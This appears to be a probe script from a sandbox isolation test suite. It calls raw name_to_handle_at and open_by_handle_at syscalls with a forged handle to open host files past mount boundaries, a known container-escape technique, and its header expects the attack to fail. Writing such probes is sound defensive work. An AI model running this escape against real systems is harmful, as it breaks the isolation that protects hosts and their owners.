# goal: open files of the machine by their handles, past all mounts
# seen: nothing
# within_s: 10
# lacks: attack got
import ctypes
import os
import platform
import struct

libc = ctypes.CDLL(None, use_errno=True)
name_to, open_by = {"x86_64": (303, 304), "aarch64": (264, 265)}[platform.machine()]
handle = ctypes.create_string_buffer(struct.pack("Ii", 128, 0) + bytes(128))
mount = ctypes.c_int()
if libc.syscall(name_to, -100, b"/usr", handle, ctypes.byref(mount), 0) == 0:
    print("attack got a handle")
guessed = ctypes.create_string_buffer(struct.pack("IiII", 8, 1, 2, 0))
for folder in ("/", "/usr", "/tmp", "/proc"):
    descriptor = os.open(folder, os.O_RDONLY)
    if libc.syscall(open_by, descriptor, guessed, os.O_RDONLY) >= 0:
        print("attack got a file by its handle", folder)
    os.close(descriptor)
